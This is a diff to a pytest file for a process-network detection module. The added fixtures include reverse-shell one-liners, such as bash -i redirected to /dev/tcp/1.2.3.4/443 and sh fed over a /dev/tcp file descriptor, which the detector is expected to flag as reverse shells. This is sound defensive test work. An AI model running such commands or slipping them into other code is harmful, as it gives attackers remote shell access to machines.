@@ -3,7 +3,7 @@
 import pytest
 
 from schemas.lineage import Above, Execution, Lineage
-from schemas.net.suspicions import RULES, of_egress, of_listening, of_spread
+from schemas.net.suspicions import RULES, may_hand_over, of_egress, of_listening, of_spread
 from schemas.net.zones import zones
 from schemas.operation import Socket
 
@@ -59,6 +59,13 @@ EGRESS = [
     ("/bin/bash /usr/local/bin/wait-for-it.sh", [SYSTEMD], OUT, 443, {"shell_egress": 2}),
     ("/bin/bash /usr/local/bin/wait-for-it.sh", [SYSTEMD], IN, 5432, {}),
     ("/bin/bash /tmp/x.sh", [SYSTEMD], OUT, 443, {"shell_egress": 3}),
+    # It says itself that it gives a shell away, to whomever within the site, too.
+    ('/bin/bash -c "bash -i >& /dev/tcp/1.2.3.4/443 0>&1"', [SYSTEMD], OUT, 443, {"reverse_shell": 4}),
+    ('/bin/bash -c "/bin/sh -i >& /dev/udp/10.0.0.9/443"', [SYSTEMD], IN, 443, {"reverse_shell": 4}),
+    ('/bin/bash -c "exec 5<>/dev/tcp/a/1; sh 0<&5 1>&5"', [SYSTEMD], OUT, 443, {"reverse_shell": 4}),
+    ('/bin/bash -c "until : >/dev/tcp/db/5432; do sleep 1; done 2>&1"', [SYSTEMD], OUT, 443, {"shell_egress": 2}),
+    ('/bin/bash -c "ssh -i key a; : 10>&1 </dev/tcp/b/22"', [SYSTEMD], OUT, 443, {"shell_egress": 2}),
+    ('/bin/bash -c "bash -i"', [SYSTEMD], IN, 443, {}),
     ("/tmp/bash -i", [SYSTEMD], OUT, 443, {"shell_egress": 3, "scratch_egress": 3}),
     # Programs that lie where none should.
     ("/dev/shm/kworker", [SYSTEMD], OUT, 443, {"scratch_egress": 3}),
@@ -208,3 +215,22 @@ def test_many_ports_are_graver_than_many_hosts_of_a_program_that_may_watch_them(
 @pytest.mark.parametrize("name", FORWARDERS.split())
 def test_who_connects_for_others_has_many_ports(name: str) -> None:
     assert of_spread("ports", Execution(binary=f"/usr/bin/{name}")).severity == 2
+
+
+@pytest.mark.parametrize(
+    ("command", "may"),
+    [
+        ("/usr/bin/python3 -c import:socket", True),
+        ("/usr/bin/python3", True),
+        ("/usr/bin/perl -MIO -e x", True),
+        ("/usr/bin/php -r x", True),
+        ("/usr/bin/python3 /usr/bin/pipenv shell", False),
+        ("/usr/bin/python3 -m http.server", False),
+        ("/usr/bin/java -jar a.jar", False),
+        ("/bin/bash -c x", False),
+    ],
+)
+def test_an_interpreter_with_a_text_of_its_own_may_give_a_shell_away(command: str, may: bool) -> None:
+    binary, _, arguments = command.partition(" ")
+
+    assert may_hand_over(Execution(binary=binary, arguments=arguments)) is may
